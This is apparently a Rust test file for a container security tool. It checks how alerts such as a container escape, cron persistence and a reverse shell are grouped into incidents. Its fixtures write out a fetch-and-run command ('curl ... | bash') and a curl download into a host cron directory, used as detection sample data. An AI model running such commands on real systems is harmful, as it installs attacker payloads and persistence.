use super::*;
use crate::finding::{Finding, FindingKind};
use crate::incident::samples::{alert, cron, write};
use crate::output::samples;
use crate::response::{Deed, Done, Origin, Report, Response};

fn rows(findings: &[&Finding]) -> Vec<Row> {
    findings.iter().map(|f| samples::row(f)).collect()
}

fn links(cases: &[Case]) -> Vec<&'static str> {
    cases.iter().flat_map(|case| &case.links).map(|link| link.what).collect()
}

const ID: &str = "aaaaaaaaaaaa";

#[test]
fn the_chain_is_one_incident_by_its_line() {
    let (escape, persistence) = (write("a", FindingKind::Escape, ID), write("b", FindingKind::PersistenceCron, ID));
    let cases = group(rows(&[&escape, &persistence, &cron(ID)]));
    assert_eq!((cases.len(), cases[0].id.as_str(), cases[0].alerts.len()), (1, ID, 3));
    assert_eq!(links(&cases), ["lineage", "line"]);
}

/// The second file that a process wrote is in no row of its own.
#[test]
fn a_line_of_a_file_in_no_row_says_more_than_the_tree() {
    let (first, mut second) = (cron(ID), cron(ID));
    second.id = "f-second".into();
    second.incident.ties[1].key = "file:803:78".into();
    second.incident.ties[1].because = "its command is a line of /etc/cron.d/tomcat".into();
    let cases = group(rows(&[&write("a", FindingKind::Escape, ID), &first, &second]));
    let because: Vec<&str> = cases[0].links.iter().map(|link| link.because.as_str()).collect();
    assert_eq!((cases.len(), because.last().copied()), (1, Some("its command is a line of /etc/cron.d/tomcat")));
}

#[test]
fn without_the_daemons_tie_the_same_command_does() {
    let cases = group(rows(&[&write("a", FindingKind::Escape, ID), &cron("bbbbbbbbbbbb")]));
    assert_eq!(links(&cases), ["command"], "{:?}", cases.iter().map(|c| &c.links).collect::<Vec<_>>());
    assert!(cases[0].links[0].because.contains("curl -s http://203.0.113.66/logo3.jpg | bash -s"));
}

#[test]
fn then_the_same_url_then_the_same_address() {
    let mut writer = write("a", FindingKind::Escape, ID);
    writer.process.args =
        vec!["curl".into(), "-o".into(), "/mnt/etc/cron.d/x".into(), "http://203.0.113.66/logo3.jpg".into()];
    assert_eq!(links(&group(rows(&[&writer, &cron("bbbbbbbbbbbb")]))), ["url"]);
    writer.process.args = vec!["./dropper".into()];
    assert_eq!(group(rows(&[&writer, &cron("bbbbbbbbbbbb")])).len(), 2, "nothing in common");
    writer.peer = cron("bbbbbbbbbbbb").peer;
    assert_eq!(links(&group(rows(&[&writer, &cron("bbbbbbbbbbbb")]))), ["destination"]);
}

#[test]
fn without_a_write_to_the_host_nothing_reaches_it() {
    let mut writer = write("a", FindingKind::PersistenceCron, ID);
    writer.incident.ties[1].path = None;
    assert_eq!(group(rows(&[&writer, &cron("bbbbbbbbbbbb")])).len(), 2);
}

#[test]
fn a_lineage_that_was_quiet_for_long_is_another_incident() {
    let mut late = write("b", FindingKind::ReverseShell, "bbbbbbbbbbbb");
    late.incident.ties.truncate(1);
    late.time_ns += 3_590_000_000_000;
    let early = write("a", FindingKind::Escape, ID);
    assert_eq!(group(rows(&[&early, &late])).len(), 1);
    late.time_ns += 20_000_000_000;
    assert_eq!(group(rows(&[&early, &late])).len(), 2);
}

#[test]
fn a_bad_image_is_part_of_what_its_container_did() {
    let mut image = write("i", FindingKind::ImageDenylist, "cccccccccccc");
    image.incident.ties.clear();
    let mut escape = write("a", FindingKind::Escape, ID);
    assert_eq!(links(&group(rows(&[&escape, &image]))), ["image"]);
    escape.container.id = "f".repeat(64);
    assert_eq!(group(rows(&[&escape, &image])).len(), 2);
}

#[test]
fn amendments_are_taken_in_and_responses_belong_to_their_finding() {
    let mut finding = write("a", FindingKind::Escape, ID);
    finding.container.name.clear();
    let first = samples::row(&finding);
    finding.container.name = "web-1".into();
    finding.amendment = true;
    let response = |id: &str| {
        let report = Report { deed: Deed::Quarantine, result: Ok(Done::default()), took_us: 5 };
        let origin = Origin::Finding { id: Some(id.into()), kind: FindingKind::Escape };
        let response = Response { report, origin, container: finding.container.clone() };
        Row::Response(Box::new(ResponseRow::new(&response, "node-1", &samples::clock())))
    };
    let cases = group(vec![first, samples::row(&finding), response("a"), response("other")]);
    assert_eq!((cases.len(), cases[0].alerts.len(), cases[0].responses.len()), (1, 1, 1));
    assert_eq!(cases[0].alerts[0].container.name, "web-1");
}

#[test]
fn rows_without_incidents_go_by_their_tree_and_excepted_ones_are_left_out() {
    let old = |id: &str| {
        let mut row = alert(samples::row(&write(id, FindingKind::Escape, ID)));
        row.bulkhead.incident = None;
        Row::Alert(Box::new(row))
    };
    assert_eq!(links(&group(vec![old("a"), old("b")])), ["lineage"]);
    let mut excepted = write("c", FindingKind::Escape, ID);
    excepted.excepted = Some("a drill".into());
    assert!(group(rows(&[&excepted])).is_empty());
}
